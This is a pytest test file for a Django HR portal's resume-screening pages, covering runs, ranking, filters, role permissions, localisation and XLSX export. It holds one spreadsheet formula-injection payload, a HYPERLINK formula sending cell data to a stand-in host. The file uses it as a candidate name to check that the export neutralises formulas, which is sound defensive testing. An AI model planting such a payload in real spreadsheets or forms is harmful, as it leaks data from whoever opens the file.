"""Screening pages: start a run, watch its progress, the ranked results (sort, filters, person's actions,
roles) and the formula-injection-safe XLSX export."""

from __future__ import annotations

import io
import re

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from hrportal.models import AuditLog
from recruiting.models import Application, Candidate, ScreeningRun
from recruiting.pipeline import Stage
from recruiting.screening_runs.jobs import start_screening_run
from tests.recruiting.screening_fixtures import STRONG_RESUME, WEAK_RESUME, numbered_resume

pytestmark = pytest.mark.django_db
INJECTION_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(autouse=True)
def _embedded(settings):
    settings.REDIS_URL = ""


@pytest.fixture
def screened(ehr, users):
    """SM-01 with a strong, a weak and a formula-named applicant, screened once."""
    position = ehr["position"]
    ehr["candidate"].resume_text = WEAK_RESUME
    ehr["candidate"].save()
    strong = Candidate.objects.create(name="王强", resume_text=STRONG_RESUME)
    evil = Candidate.objects.create(name=INJECTION_NAME, resume_text=numbered_resume(2))
    apps = {
        "weak": ehr["application"],
        "strong": Application.objects.create(candidate=strong, position=position),
        "evil": Application.objects.create(candidate=evil, position=position),
    }
    run = start_screening_run(position=position, by=users["hr"])
    for app in apps.values():
        app.refresh_from_db()
    return {"run": run, "apps": apps, "position": position}


def scores_in_page(html: str) -> list[float]:
    return [float(s) for s in re.findall(r"<strong data-score>([\d.]+)</strong>", html)]


def test_hr_starts_a_run_and_lands_on_its_page(client, users, ehr):
    ehr["candidate"].resume_text = STRONG_RESUME
    ehr["candidate"].save()
    client.force_login(users["hr"])

    response = client.post(reverse("recruiting:screening_run_start", args=[ehr["position"].pk]), follow=True)

    run = ScreeningRun.objects.get()
    assert response.redirect_chain[-1][0] == reverse("recruiting:screening_run", args=[run.pk])
    html = response.content.decode()
    assert "1 / 1" in html and "已完成" in html
    assert reverse("recruiting:screening_results", args=[ehr["position"].pk]) in html
    assert "every 1s" not in html  # finished: no more polling


def test_progress_partial_polls_while_running_and_links_results_when_done(client, users, ehr):
    run = ScreeningRun.objects.create(position=ehr["position"], total=40, processed=12, status=ScreeningRun.Status.RUNNING)
    client.force_login(users["manager"])
    url = reverse("recruiting:screening_run_progress", args=[run.pk])

    running = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "12 / 40" in running and 'hx-trigger="every 1s"' in running and f'hx-get="{url}"' in running
    assert "data-results-link" not in running

    ScreeningRun.objects.filter(pk=run.pk).update(status=ScreeningRun.Status.DONE, processed=40)
    done = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "40 / 40" in done and "hx-trigger" not in done and "data-results-link" in done


def test_run_page_lists_failed_items_with_a_readable_reason(client, users, ehr):
    run = start_screening_run(position=ehr["position"], by=users["hr"])  # the applicant has no resume text
    client.force_login(users["hr"])
    html = client.get(reverse("recruiting:screening_run", args=[run.pk])).content.decode()
    assert "王小明" in html and "没有可用的简历文本" in html


def test_results_are_ranked_by_score_with_explanations(client, users, screened):
    client.force_login(users["hr"])
    html = client.get(reverse("recruiting:screening_results", args=[screened["position"].pk])).content.decode()

    scores = scores_in_page(html)
    assert len(scores) == 3 and scores == sorted(scores, reverse=True)
    assert html.index("王强") < html.index("王小明")
    assert "综合得分" in html  # the Chinese explanation
    assert "缺少必备技能" in html and 'data-flag="missing_must_have"' in html
    assert "HYPERLINK" in html and "<script" not in html.split("<main", 1)[1].split("</main>")[0]


def test_results_sort_by_name_and_filter_by_flag_and_min_score(client, users, screened):
    client.force_login(users["hr"])
    url = reverse("recruiting:screening_results", args=[screened["position"].pk])
    strong = screened["apps"]["strong"].screening_score

    flagged = client.get(url, {"flag": "missing_must_have"}).content.decode()
    assert "王小明" in flagged and "王强" not in flagged

    high = client.get(url, {"min_score": str(strong)}).content.decode()
    assert scores_in_page(high) == [float(strong)]

    by_name = client.get(url, {"sort": "name"}).content.decode()
    names = re.findall(r'candidates/\d+/">([^<]+)</a>', by_name)
    assert names == sorted(names)


def test_results_follow_the_active_language(client, users, screened):
    client.force_login(users["hr"])
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    html = client.get(reverse("recruiting:screening_results", args=[screened["position"].pk])).content.decode()
    assert "Overall score" in html and "Missing must-have skill: Python" in html
    assert "综合得分" not in html
    # issue 20: the label and its list are English too ("Missing must-have skills: …", never "…skills：…")
    main = html.split("<main", 1)[1].split("</main>")[0]
    assert re.search(r"Missing must-have skills: </span>Python", main)
    assert "：" not in re.sub(r"<[^>]+>", "", main).replace("王小明", "").replace("王强", "")


def test_shortlist_and_reject_are_a_persons_action_through_the_move_endpoint(client, users, screened):
    client.force_login(users["hr"])
    url = reverse("recruiting:screening_results", args=[screened["position"].pk])
    html = client.get(url).content.decode()
    strong = screened["apps"]["strong"]
    move_url = reverse("recruiting:application_move", args=[strong.pk])
    assert f'action="{move_url}"' in html and 'value="shortlisted"' in html and 'name="reason" required' in html
    # Screening alone moved nobody.
    assert set(Application.objects.values_list("stage", flat=True)) == {Stage.NEW}

    response = client.post(move_url, {"to_stage": "shortlisted", "from_stage": "new", "next": url})
    assert response.status_code == 302 and response["Location"] == url
    strong.refresh_from_db()
    assert strong.stage == Stage.SHORTLISTED

    weak = screened["apps"]["weak"]
    refused = client.post(reverse("recruiting:application_move", args=[weak.pk]),
                          {"to_stage": "rejected", "from_stage": "new", "reason": "", "next": url}, follow=True)
    weak.refresh_from_db()
    assert weak.stage == Stage.NEW and "需要填写原因" in refused.content.decode()


def test_manager_sees_own_results_without_export_or_rescreen(client, users, screened, ehr):
    client.force_login(users["manager"])
    position = screened["position"]
    html = client.get(reverse("recruiting:screening_results", args=[position.pk])).content.decode()
    assert "王强" in html
    assert reverse("recruiting:screening_results_export", args=[position.pk]) not in html
    assert reverse("recruiting:screening_run_start", args=[position.pk]) not in html
    assert client.get(reverse("recruiting:screening_results_export", args=[position.pk])).status_code == 403
    assert client.post(reverse("recruiting:screening_run_start", args=[position.pk])).status_code == 403
    assert client.get(reverse("recruiting:screening_results", args=[ehr["rd_position"].pk])).status_code == 403
    assert client.get(reverse("recruiting:screening_run", args=[screened["run"].pk])).status_code == 200


def test_finance_and_interviewers_cannot_open_screening(client, users, screened):
    position = screened["position"]
    for role in ("finance", "interviewer"):
        client.force_login(users[role])
        assert client.get(reverse("recruiting:screening_results", args=[position.pk])).status_code == 403
        assert client.get(reverse("recruiting:screening_run", args=[screened["run"].pk])).status_code == 403


def test_manager_cannot_watch_a_run_of_another_department(client, users, ehr):
    run = ScreeningRun.objects.create(position=ehr["rd_position"], total=1)
    client.force_login(users["manager"])
    assert client.get(reverse("recruiting:screening_run", args=[run.pk])).status_code == 403
    assert client.get(reverse("recruiting:screening_run_progress", args=[run.pk])).status_code == 403
    assert client.get(reverse("recruiting:screening_run", args=[run.pk + 999])).status_code == 404


def test_export_is_formula_safe_ranked_and_audited(client, users, screened):
    client.force_login(users["hr"])
    position = screened["position"]
    response = client.get(reverse("recruiting:screening_results_export", args=[position.pk]))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="screening-SM-01-' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[:4] == ("排名", "候选人", "阶段", "得分")
    assert len(body) == 3
    scores = [row[3] for row in body]
    assert scores == sorted(scores, reverse=True)
    names = [row[1] for row in body]
    assert "'" + INJECTION_NAME in names and INJECTION_NAME not in names
    for cell in (c for row in sheet.iter_rows() for c in row):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    log = AuditLog.objects.get(action="export")
    assert log.actor == users["hr"] and log.object_id == str(position.pk) and "3 rows" in log.note


def test_export_takes_the_current_filters(client, users, screened):
    client.force_login(users["hr"])
    response = client.get(
        reverse("recruiting:screening_results_export", args=[screened["position"].pk]), {"flag": "missing_must_have"}
    )
    body = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))[1:]
    assert [row[1] for row in body] == ["王小明"]
    assert "1 rows" in AuditLog.objects.get(action="export").note


def test_results_query_count_does_not_depend_on_rows(client, users, ehr):
    position = ehr["position"]
    client.force_login(users["hr"])
    url = reverse("recruiting:screening_results", args=[position.pk])

    def add_and_screen(n, prefix):
        ids = []
        for i in range(n):
            candidate = Candidate.objects.create(name=f"{prefix}{i}", resume_text=numbered_resume(i))
            ids.append(Application.objects.create(candidate=candidate, position=position).pk)
        start_screening_run(position=position, by=users["hr"], application_ids=ids)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
        assert response.status_code == 200
        return len(ctx.captured_queries), response

    add_and_screen(2, "少")
    few, response = count()
    assert len(scores_in_page(response.content.decode())) == 2
    add_and_screen(12, "多")
    many, response = count()
    assert len(scores_in_page(response.content.decode())) == 14
    assert many == few


def test_skill_names_in_chips_flags_and_export_follow_the_ui_language(client, users, ehr):
    """Issue 20: the engine stores a skill by its (Chinese) lexicon name; the results page and the XLSX show the
    English name in English, in the matched chips, the missing must-haves and the flag text."""
    from recruiting.models import PositionCompetency, Skill

    analysis = Skill.objects.create(name="数据分析", name_en="Data analysis")
    PositionCompetency.objects.get(position=ehr["position"], competency__code="COMM").must_have_skills.add(analysis)
    ehr["candidate"].resume_text = WEAK_RESUME  # lacks it: flagged
    ehr["candidate"].save()
    Application.objects.create(candidate=Candidate.objects.create(name="王强", resume_text=STRONG_RESUME),
                               position=ehr["position"])  # "使用 Python 做销售数据分析": matched
    start_screening_run(position=ehr["position"], by=users["hr"])
    client.force_login(users["hr"])
    url = reverse("recruiting:screening_results", args=[ehr["position"].pk])
    export = reverse("recruiting:screening_results_export", args=[ehr["position"].pk])

    def shown(html: str) -> str:  # the rows without the engine's stored explanation sentences
        rows = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
        return re.sub(r'<td data-label="[^"]*" class="explanation">.*?</td>', "", rows, flags=re.S)

    def exported() -> dict:
        sheet = load_workbook(io.BytesIO(client.get(export).content)).active
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        flags, matched, missing = len(values[0]) - 7, len(values[0]) - 6, len(values[0]) - 5  # before the explanation
        return {row[1]: (row[flags], row[matched], row[missing]) for row in values[1:]}

    chinese = shown(client.get(url).content.decode())
    assert "缺少必备技能：数据分析" in chinese and '<span class="chip">数据分析</span>' in chinese
    assert "Data analysis" not in chinese
    assert exported()["王强"][1] == "Python、数据分析" and "数据分析" in exported()["王小明"][2]

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = shown(client.get(url).content.decode())
    assert "Missing must-have skill: Data analysis" in english and '<span class="chip">Data analysis</span>' in english
    assert "数据分析" not in english
    rows = exported()
    assert rows["王强"][1] == "Python, Data analysis"
    assert "Missing must-have skill: Data analysis" in rows["王小明"][0] and "Data analysis" in rows["王小明"][2]
    assert "数据分析" not in "".join(str(v) for v in rows["王小明"] + rows["王强"])
